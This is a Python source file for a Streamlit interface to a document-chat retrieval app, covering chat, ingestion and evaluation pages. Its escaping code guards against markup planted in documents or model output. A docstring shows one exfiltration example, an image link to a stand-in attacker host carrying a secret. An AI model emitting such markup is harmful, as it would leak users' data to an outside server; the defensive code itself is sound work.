"""Chat with your documents in the browser: a thin Streamlit layer over :class:`rag_app.RAG`.

Start it with ``rag-app ui`` (or ``streamlit run streamlit_app.py``). Every action calls the
facade: ``RAG.ingest`` (with a progress callback), ``documents``, ``delete``, ``stats``,
``chat(...).stream``; feedback goes to :class:`rag_app.feedback.FeedbackStore`. The app holds
no retrieval, prompting or grounding logic of its own; it only shows what an
:class:`~rag_app.answer.Answer` carries: the text with flagged sentences marked, a grounding
badge, the cited passages as chips that open the passage with the supporting span highlighted.

Pages: Chat, Documents (upload or a folder, live progress, list, delete / re-ingest),
Evaluation (the reports found in ``ui.reports_dir``, and the feedback collected).
"""

from __future__ import annotations

import json
import re
import string
from collections.abc import Callable
from pathlib import Path
from typing import Any

import streamlit as st
from pydantic import ValidationError

from rag_app.answer import Answer, Citation
from rag_app.errors import IndexNotFoundError, RagAppError
from rag_app.feedback import FeedbackStore
from rag_app.generation import BACKENDS
from rag_app.generation.base import Generator
from rag_app.rag import RAG
from rag_app.settings import Settings
from rag_app.shared_models import SharedModels

# Builds the generator from the settings; ``main`` takes one to replace the configured backend.
# (A comment, not a docstring: Streamlit renders bare string literals of the script on the page.)
GeneratorFactory = Callable[[Settings], Generator]

PAGES = ("Chat", "Documents", "Evaluation")
REPORT_SUFFIXES = (".json", ".md", ".html", ".png", ".svg")

_CSS = """
<style>
.rag-flagged { background: #fde2e1; border-bottom: 2px dashed #c0392b; padding: 0 2px; }
.rag-passage { border-left: 4px solid #4a7bd0; padding: 0.5rem 0.8rem; background: #f6f8fc;
               white-space: pre-wrap; line-height: 1.5; }
.rag-passage mark { background: #ffe066; padding: 0 2px; }
.rag-answer { white-space: pre-wrap; line-height: 1.6; margin-bottom: 0.5rem; }
</style>
"""


# -- heavy objects, built once per process ------------------------------------------------------
@st.cache_resource(show_spinner=False)
def _models(factory_name: str, _factory: GeneratorFactory | None) -> SharedModels:
    """The embedders and generators of this process, shared by every index (one holder per factory)."""
    return SharedModels(generator_factory=_factory)


@st.cache_resource(show_spinner="Preparing the models…")
def _rag(
    index: str, settings_key: str, factory_name: str, _settings: Settings, _factory: GeneratorFactory | None
) -> RAG:
    """One RAG per index and settings; the embedder and generator are shared by every RAG that can."""
    return _models(factory_name, _factory).rag(index, _settings)


@st.cache_resource(show_spinner=False)
def _feedback_store(data_dir: str) -> FeedbackStore:
    return FeedbackStore(data_dir)


# -- sidebar: index, generator, retrieval ----------------------------------------------------------
def _sidebar(base: Settings, factory_name: str) -> tuple[str, Path, Settings]:
    """The page to show, the index folder and the settings the sidebar's controls give."""
    with st.sidebar:
        page = st.radio("Page", PAGES, key="page")
        st.subheader("Index")
        index = st.text_input("Index folder", value=str(base.ui.index), key="index")
        st.subheader("Generator")
        backends = sorted(BACKENDS)
        backend = st.selectbox(
            "Backend", backends, index=backends.index(base.generator.backend), key="backend"
        )
        adapter = st.text_input(
            "LoRA adapter",
            value=base.generator.adapter or "",
            key="adapter",
            help="An adapter folder, `promoted` for the registry's promoted adapter, or empty for none.",
        )
        if factory_name:
            st.caption(f"Generator replaced by `{factory_name}`: the backend above is not used.")
        st.subheader("Retrieval")
        k = st.slider("Passages (k)", 1, max(20, base.retrieval.k), base.retrieval.k, key="k")
        hybrid = st.toggle(
            "Hybrid search (dense + BM25)", value=base.retrieval.mode == "hybrid", key="hybrid"
        )
        st.toggle(
            "Show withheld drafts",
            value=False,
            key="show_rejected",
            help="When an answer is withheld as unsupported, also show what the model wrote (marked).",
        )
        st.button("New conversation", on_click=_new_conversation, width="stretch")
    settings = base.model_copy(deep=True)
    settings.generator.backend = backend  # type: ignore[assignment]  # validated on assignment
    settings.generator.adapter = adapter.strip() or None
    settings.retrieval.k = k
    settings.retrieval.mode = "hybrid" if hybrid else "dense"
    return str(page), Path(index.strip() or str(base.ui.index)).expanduser(), settings


def _new_conversation() -> None:
    st.session_state.turns = []
    st.session_state.conversation = None


# -- chat ---------------------------------------------------------------------------------------
def _chat_page(rag: RAG, feedback: FeedbackStore) -> None:
    st.title("Chat with your documents")
    try:
        stats = rag.stats()
    except IndexNotFoundError:
        st.info(f"There is no index at `{rag.index_dir}` yet. Add documents on the **Documents** page.")
        return
    st.caption(
        f"`{rag.index_dir}`: {stats.get('documents', '?')} documents, {stats.get('chunks', '?')} chunks"
    )
    if st.session_state.get("chat_index") != str(rag.index_dir):  # another index: another conversation
        _new_conversation()
        st.session_state.chat_index = str(rag.index_dir)
    turns: list[dict[str, Any]] = st.session_state.setdefault("turns", [])
    for i, turn in enumerate(turns):
        with st.chat_message("user"):
            st.markdown(_inert(turn["question"]))
        with st.chat_message("assistant"):
            _show_answer(i, turn, rag, feedback)
    question = st.chat_input("Ask a question about your documents")
    if not question:
        return
    with st.chat_message("user"):
        st.markdown(_inert(question))
    with st.chat_message("assistant"):
        session = rag.chat(st.session_state.get("conversation"))
        st.session_state.conversation = session.id
        try:
            with st.spinner("Searching the documents, writing and checking the answer…"):
                pieces = iter(session.stream(question))
                first = next(pieces, "")  # a one-sentence answer arrives once it is checked
            _stream_inert(_chain(first, pieces))
        except RagAppError as exc:
            st.error(str(exc))
            return
    turns.append({"question": question, "answer": session.last_answer, "feedback_id": None, "rating": None})
    st.rerun()  # show the finished answer with its marks, badge and sources


def _chain(first: str, rest: Any) -> Any:
    if first:
        yield first
    yield from rest


def _stream_inert(pieces: Any) -> str:
    """Show the answer as it streams, as inert text (``st.write_stream`` would render its Markdown,
    and a planted image would load while the answer is still being written)."""
    box, text = st.empty(), ""
    for piece in pieces:
        text += piece
        box.markdown(f'<div class="rag-answer">{_inert(text)}</div>', unsafe_allow_html=True)
    return text


def _show_answer(i: int, turn: dict[str, Any], rag: RAG, feedback: FeedbackStore) -> None:
    answer: Answer = turn["answer"]
    if answer.abstained:
        st.warning(f"**{_inert(answer.text)}** {_inert(answer.abstain_reason or '')}", icon="🚫")
        if answer.draft and st.session_state.get("show_rejected"):
            st.caption(f"Withheld draft, not supported by the documents: “{_inert(answer.draft)}”")
    else:
        st.markdown(f'<div class="rag-answer">{_marked_text(answer)}</div>', unsafe_allow_html=True)
        if not answer.supported:
            st.error("Not supported by the documents: check it against the sources.", icon="⚠️")
    _grounding_badge(answer)
    for sentence in answer.grounding.flagged if answer.grounding is not None else []:
        st.caption(
            f"⚠️ Not found in the sources: “{_inert(sentence.text.strip())}” (support {sentence.score:.2f})"
        )
    _citation_chips(i, answer)
    _feedback_controls(i, turn, rag, feedback)


def _marked_text(answer: Answer) -> str:
    """The answer as inert HTML (see :func:`_inert`) with the sentences the guard flagged wrapped in a
    marked span."""
    text = answer.text
    flagged = sorted(answer.grounding.flagged, key=lambda s: s.start) if answer.grounding is not None else []
    pieces, cursor = [], 0
    for s in flagged:
        if s.start < cursor or text[s.start : s.end] != s.text:
            continue  # spans that no longer match the text are shown unmarked, never misplaced
        pieces.append(_inert(text[cursor : s.start]))
        title = _inert(f"{s.reason} (support {s.score:.2f})")
        pieces.append(f'<span class="rag-flagged" title="{title}">⚠️ {_inert(s.text)}</span>')
        cursor = s.end
    pieces.append(_inert(text[cursor:]))
    return "".join(pieces)


# Every ASCII punctuation character and every line break: with these written as numeric character
# references nothing of Markdown (images, links, autolinks, emphasis), GitHub's extensions, Streamlit's
# directives (``:red[...]``, ``:material/...:``), math (``$``) or HTML survives in document or model text.
_INERT = {ord(c): f"&#{ord(c)};" for c in string.punctuation + "\n\r"}


def _inert(text: str) -> str:
    """Document or model text as Markdown/HTML source that shows exactly that text and nothing else.

    Passages and answers come from documents and from a model, so they may carry planted markup: an
    image ``![](http://attacker/?q=secret)`` loads a remote URL the moment it is shown (a
    data-exfiltration channel), a link or a raw ``<img>`` does the same on a click or at once. Here
    each punctuation character and line break becomes a character reference, which Markdown and HTML
    both show as the literal character: no image loads, a link is shown as its text with the target
    visible, and it is never clickable. Line breaks are kept when the element has
    ``white-space: pre-wrap`` (``.rag-passage``, ``.rag-answer``); as references they also keep an HTML
    block on one line, so a blank line in a passage cannot end the block and start Markdown.
    """
    return text.translate(_INERT)


def _label_text(text: str) -> str:
    """Text for a widget label (Streamlit renders labels as Markdown, images included): backslash-escaped
    punctuation, which labels show as the character itself."""
    return re.sub(r"([\\`*_\[\]()!<>:$|~&])", r"\\\1", text)


def _code(text: str) -> str:
    """``text`` (a file name, a path) as a Markdown code span, which shows its content verbatim; the
    fence is longer than any run of backticks inside, so the name cannot close it early."""
    runs = re.findall(r"`+", text)
    fence = "`" * (max((len(r) for r in runs), default=0) + 1)
    return f"{fence} {text} {fence}"


def _grounding_badge(answer: Answer) -> None:
    if answer.grounding is None:
        if not answer.abstained:
            st.badge("grounding not checked", color="gray")
        return
    score = answer.grounding.score
    if answer.abstained:
        return
    if answer.supported and not answer.grounding.flagged:
        st.badge(f"grounding {score:.2f}", color="green", icon=":material/verified:")
    elif score >= 0.4:
        st.badge(f"grounding {score:.2f}", color="orange", icon=":material/help:")
    else:
        st.badge(f"grounding {score:.2f}", color="red", icon=":material/warning:")


def _citation_label(c: Citation) -> str:
    name = _label_text(Path(c.source).name)
    return f"[{c.number}] {name}" + (f" · p. {c.page}" if c.page else "")


def _citation_chips(i: int, answer: Answer) -> None:
    cited = [c for c in answer.citations if c.cited]
    shown = cited or answer.citations
    if not shown:
        return
    by_number = {c.number: c for c in shown}
    chosen = st.pills(
        "Sources" if cited else "Closest passages",
        list(by_number),
        format_func=lambda n: _citation_label(by_number[n]),
        key=f"cite-{i}",
    )
    if chosen is not None:
        _show_passage(by_number[int(chosen)], answer)


def _show_passage(c: Citation, answer: Answer) -> None:
    """The cited passage with the exact span that supports the answer highlighted."""
    where = f"**[{c.number}] {_inert(c.source)}**" + (f" · page {c.page}" if c.page else "")
    where += f" · characters {c.start}–{c.end} · retrieval score {c.score:.3f}"
    ranges = []
    for s in answer.grounding.sentences if answer.grounding is not None else []:
        if s.source == c.number and c.start <= s.source_start < s.source_end <= c.end:
            ranges.append((s.source_start - c.start, s.source_end - c.start))
    with st.container(border=True, key=f"passage-{c.chunk_id}-{c.number}"):
        st.markdown(where)
        if c.heading_path:
            st.caption(_inert(" › ".join(c.heading_path)))
        st.markdown(f'<div class="rag-passage">{_highlight(c.text, ranges)}</div>', unsafe_allow_html=True)
        if ranges:
            first = min(ranges)
            st.caption(f"Highlighted: characters {c.start + first[0]}–{c.start + first[1]} of the document.")
        else:
            st.caption("No single span of this passage was matched to the answer.")


def _highlight(text: str, ranges: list[tuple[int, int]]) -> str:
    """``text`` as inert HTML (:func:`_inert`) with each character range in ``<mark>`` (overlaps merged)."""
    out, cursor = [], 0
    for start, end in sorted(ranges):
        if start < cursor:
            continue
        parts = re.split(r"(\s*\n\s*)", text[start:end])  # one <mark> per paragraph, breaks between
        marked = "".join(_inert(p) if i % 2 else f"<mark>{_inert(p)}</mark>" for i, p in enumerate(parts))
        out.append(_inert(text[cursor:start]) + marked)
        cursor = end
    out.append(_inert(text[cursor:]))
    return "".join(out)


def _feedback_controls(i: int, turn: dict[str, Any], rag: RAG, feedback: FeedbackStore) -> None:
    """Thumbs up/down and an optional correction, stored for the retraining loop."""
    thumbs = st.feedback("thumbs", key=f"thumbs-{i}")
    if thumbs is None:
        return
    rating = 1 if thumbs == 1 else -1
    if turn["feedback_id"] is None:
        turn["feedback_id"] = feedback.add(
            turn["answer"],
            rating=rating,
            index_dir=rag.index_dir,
            conversation_id=st.session_state.get("conversation"),
        )
    elif turn["rating"] != rating:
        feedback.set_rating(turn["feedback_id"], rating)
    turn["rating"] = rating
    with st.form(key=f"correction-form-{i}", border=False):
        correction = st.text_area(
            "Correction (optional)",
            key=f"correction-{i}",
            placeholder="What should the answer have said?",
            height=80,
        )
        if st.form_submit_button("Save correction", key=f"save-correction-{i}"):
            feedback.set_correction(turn["feedback_id"], correction)
            st.success("Correction saved for the retraining loop.")


# -- documents ----------------------------------------------------------------------------------
def _documents_page(rag: RAG, settings: Settings) -> None:
    st.title("Documents")
    st.caption(f"Index folder: `{rag.index_dir}`")
    uploads = st.file_uploader("Upload files", accept_multiple_files=True, key="uploads")
    if st.button("Ingest uploaded files", disabled=not uploads, key="ingest-uploads"):
        # one folder per index: the saved file's path is the document's key in that index
        folder = (settings.ui.upload_dir or settings.data_dir / "uploads") / rag.index_dir.name
        folder.mkdir(parents=True, exist_ok=True)
        paths = []
        for upload in uploads or []:
            path = folder / Path(upload.name).name  # the name only: no path from the browser is trusted
            path.write_bytes(upload.getvalue())
            paths.append(path)
        _ingest(rag, paths)
    with st.form("ingest-folder", border=False):
        where = st.text_input("Or a folder (or file) on this machine", key="folder")
        prune = st.checkbox("Also remove indexed documents whose files are gone", key="prune")
        go = st.form_submit_button("Ingest folder", key="ingest-folder")
    if go and where.strip():
        _ingest(rag, [Path(where.strip()).expanduser()], prune=prune)
    _document_list(rag)


def _ingest(rag: RAG, paths: list[Path], *, prune: bool = False) -> None:
    bar = st.progress(0.0, text="Looking for files…")

    def on_progress(done: int, total: int, source: str) -> None:
        text = f"{done}/{total} files: {Path(source).name}"
        bar.progress(
            min(done / max(total, 1), 1.0), text=text + (" (embedding and saving…)" if done == total else "")
        )

    try:
        report = rag.ingest(paths, prune=prune, on_progress=on_progress)
    except RagAppError as exc:
        bar.empty()
        st.error(str(exc))
        return
    bar.progress(1.0, text=f"Done in {report.seconds:.1f} s")
    summary = (
        f"{report.files_seen} files seen: {report.files_ingested} ingested, "
        f"{report.files_unchanged} unchanged, {len(report.files_failed)} failed, "
        f"{report.files_removed} removed; {report.chunks_added} chunks added "
        f"({report.chunks_embedded} embedded, {report.chunks_reused} reused)."
    )
    (st.warning if report.nothing_ingested else st.success)(summary)
    if report.pii_redacted:
        found = ", ".join(f"{n} {kind}" for kind, n in sorted(report.pii_redacted.items()))
        st.info(f"PII redacted before storing (index.redact_pii): {found}.")
    for item in report.files_failed + report.files_skipped:
        st.warning(f"Skipped {_code(item['path'])}: {_inert(item['error'])}")


def _document_list(rag: RAG) -> None:
    st.subheader("Indexed documents")
    try:
        documents = rag.documents()
        stats = rag.stats()
    except IndexNotFoundError:
        st.info("No documents yet: upload files or name a folder above.")
        return
    left, right = st.columns(2)
    left.metric("Documents", stats.get("documents", len(documents)))
    right.metric("Chunks", stats.get("chunks", sum(d.n_chunks for d in documents)))
    st.dataframe(
        [
            {
                "source": d.source,
                "format": d.format,
                "chunks": d.n_chunks,
                "bytes": d.size,
                "ingested": d.ingested_at,
            }
            for d in documents
        ],
        width="stretch",
        hide_index=True,
    )
    if not documents:
        return
    source = st.selectbox("Document", [d.source for d in documents], key="selected-document")
    delete, reingest = st.columns(2)
    if delete.button("Delete", key="delete-document", width="stretch"):
        try:
            removed = rag.delete([source])
        except RagAppError as exc:
            st.error(str(exc))
        else:
            st.success(f"Deleted {_code(source)} ({removed} chunks).")
            st.rerun()
    if reingest.button("Re-ingest", key="reingest-document", width="stretch", help="Reads the file again"):
        _ingest(rag, [Path(source)])


# -- evaluation ---------------------------------------------------------------------------------
def _evaluation_page(settings: Settings, feedback: FeedbackStore) -> None:
    st.title("Evaluation")
    counts = feedback.counts()
    st.caption(
        f"Feedback collected for the retraining loop: {counts['up']} 👍, {counts['down']} 👎, "
        f"{counts['corrections']} corrections (`{feedback.path}`)."
    )
    _stored_runs(settings)
    _loop_lineage(settings)
    _labelling_queue(settings)
    folder = settings.ui.reports_dir
    reports = _report_files(folder)
    if not reports:
        where = Path(folder).expanduser().resolve()
        missing = "" if where.is_dir() else ", a folder that does not exist yet"
        st.info(
            f"No evaluation reports yet: looked in `{where}` (setting `ui.reports_dir`{missing}). Reports "
            "that the eval package writes there (JSON, Markdown, HTML or chart images) are listed here, "
            "newest first."
        )
        return
    chosen = st.selectbox("Report", reports, format_func=lambda p: str(p.relative_to(folder)), key="report")
    _show_report(Path(chosen))


RUN_COLUMNS = ("answer.f1", "retrieval.ndcg@10", "guard.grounding", "ragas.faithfulness")


def _stored_runs(settings: Settings) -> None:
    """The evaluation runs in the run store (``rag-app eval list``), newest first, when there are any."""
    from eval.runs import DB_NAME, RunStore

    path = settings.eval.runs_db or Path(settings.data_dir) / DB_NAME
    if not path.is_file():
        return
    with RunStore(path) as store:
        runs = store.runs(limit=20)
    if not runs:
        return
    st.subheader("Runs")
    rows = [
        {"run": r["id"], "dataset": r["dataset"], "status": r["status"], "answers": r["answers"]}
        | {name: r["metrics"].get(name) for name in RUN_COLUMNS}
        for r in runs
    ]
    st.dataframe(rows, hide_index=True, key="runs")
    st.caption(
        "Compare two runs with `rag-app eval compare A B`; `rag-app eval report RUN` writes a run's report."
    )


def _loop_lineage(settings: Settings) -> None:
    """The retraining loop: the promoted adapter, each iteration's lineage and decision, and the
    primary metric over iterations (``rag-app loop history``)."""
    from finetune.registry import REGISTRY_DB, Registry

    registry = Registry.from_settings(settings)
    if not (registry.folder / REGISTRY_DB).is_file():
        return
    iterations = registry.iterations()
    promoted = registry.promoted()
    if not iterations and promoted is None:
        return
    st.subheader("Retraining loop")
    st.caption(
        f"Promoted adapter: **{promoted.name if promoted else 'none (the base model)'}**. "
        "`rag-app adapters rollback` returns to the one before."
    )
    rows, points = [], []
    for it in iterations:
        primary = it["settings"]["primary_metric"]
        main = next((e for e in it["evidence"] if e["metric"] == primary), None)
        rows.append(
            {
                "iteration": it["id"],
                "at": it["at"],
                "from": it["parent"] or "base",
                "candidate": it["candidate"],
                primary: f"{main['a']:.3f} -> {main['b']:.3f}" if main else "",
                "95% interval of the gain": f"[{main['ci_low']:+.3f}, {main['ci_high']:+.3f}]"
                if main
                else "",
                "decision": "promoted" if it["promoted"] else "kept",
                "why": it["reason"],
            }
        )
        if main:
            points += [
                {"iteration": it["id"], "adapter": "current", primary: main["a"]},
                {"iteration": it["id"], "adapter": "candidate", primary: main["b"]},
            ]
    if rows:
        st.dataframe(rows, hide_index=True, key="loop")
    if len(points) >= 4:  # a line needs two iterations; one is the table's row
        st.line_chart(points, x="iteration", y=primary, color="adapter")


def _labelling_queue(settings: Settings) -> None:
    """Questions the loop could not label: type the right answer, or mark it unanswerable."""
    from eval.labelling import DB_NAME, LabellingQueue

    if not (Path(settings.data_dir) / DB_NAME).is_file():
        return
    with LabellingQueue(settings.data_dir) as queue:
        pending = queue.pending(limit=10)
        counts = queue.counts()
        if not pending:
            return
        st.subheader("Labelling queue")
        waiting = "1 question waits" if counts["pending"] == 1 else f"{counts['pending']} questions wait"
        st.caption(
            f"{waiting} for a right answer ({counts['labelled']} labelled); "
            "labelled ones join the next loop iteration's training pool."
        )
        for row in pending:
            with st.form(key=f"label-{row['id']}"):
                st.markdown(f"**{_inert(row['question'])}**")
                st.caption(f"The app answered: {_inert(row['app_answer'] or '(nothing)')}")
                with st.expander("Sources"):
                    st.markdown(
                        f'<div class="rag-passage">{_inert(row["context"])}</div>', unsafe_allow_html=True
                    )
                answer = st.text_input("Right answer", key=f"answer-{row['id']}")
                unanswerable = st.checkbox("The documents do not answer it", key=f"none-{row['id']}")
                if st.form_submit_button("Save label"):
                    if unanswerable or answer.strip():
                        queue.label(row["id"], None if unanswerable else answer)
                        st.rerun()
                    else:
                        st.warning("Type the right answer, or tick that the documents do not answer it.")


def _report_files(folder: Path) -> list[Path]:
    """The reports under ``folder``: newest run folder first, its ``report.html`` before the rest."""
    if not folder.is_dir():
        return []
    files = [p for p in folder.rglob("*") if p.suffix in REPORT_SUFFIXES and p.is_file()]
    newest: dict[Path, float] = {}
    for p in files:
        newest[p.parent] = max(newest.get(p.parent, 0.0), p.stat().st_mtime)
    return sorted(
        files,
        key=lambda p: (newest[p.parent], str(p.parent), p.name == "report.html", p.stat().st_mtime),
        reverse=True,
    )


def _show_report(path: Path) -> None:
    if path.suffix in (".png", ".svg"):
        st.image(str(path))
    elif path.suffix == ".md":
        st.markdown(path.read_text(encoding="utf-8"))
    elif path.suffix == ".html":
        import streamlit.components.v1 as components

        components.html(path.read_text(encoding="utf-8"), height=600, scrolling=True)
    else:
        try:
            data = json.loads(path.read_text(encoding="utf-8"))
        except json.JSONDecodeError as exc:
            st.error(f"{path} is not valid JSON: {exc}")
            return
        metrics = _numbers(data)
        if metrics:
            st.bar_chart(metrics, horizontal=True)
        st.json(data, expanded=False)


def _numbers(data: Any, prefix: str = "") -> dict[str, float]:
    """The numeric leaves of a report (``{"retrieval": {"mrr": 0.8}}`` -> ``{"retrieval.mrr": 0.8}``)."""
    if isinstance(data, dict):
        out: dict[str, float] = {}
        for key, value in data.items():
            out.update(_numbers(value, f"{prefix}{key}."))
        return out
    if isinstance(data, int | float) and not isinstance(data, bool):
        return {prefix.rstrip("."): float(data)}
    return {}


# -- the app --------------------------------------------------------------------------------------
def main(generator_factory: GeneratorFactory | None = None) -> None:
    """Render the app; ``generator_factory`` replaces the configured generator (tests, embedding apps)."""
    st.set_page_config(page_title="rag-app", page_icon="📚", layout="wide")
    st.markdown(_CSS, unsafe_allow_html=True)
    try:
        base = Settings.load()
    except RagAppError as exc:
        st.error(str(exc))
        return
    factory_name = getattr(generator_factory, "__name__", "custom") if generator_factory is not None else ""
    try:
        page, index, settings = _sidebar(base, factory_name)
    except ValidationError as exc:
        st.error(f"Invalid sidebar value: {exc}")
        return
    try:
        rag = _rag(str(index), settings.model_dump_json(), factory_name, settings, generator_factory)
        feedback = _feedback_store(str(settings.data_dir))
        if page == "Chat":
            _chat_page(rag, feedback)
        elif page == "Documents":
            _documents_page(rag, settings)
        else:
            _evaluation_page(settings, feedback)
    except RagAppError as exc:  # shown, never swallowed: one line naming what to change
        st.error(str(exc))


if __name__ == "__main__":
    main()
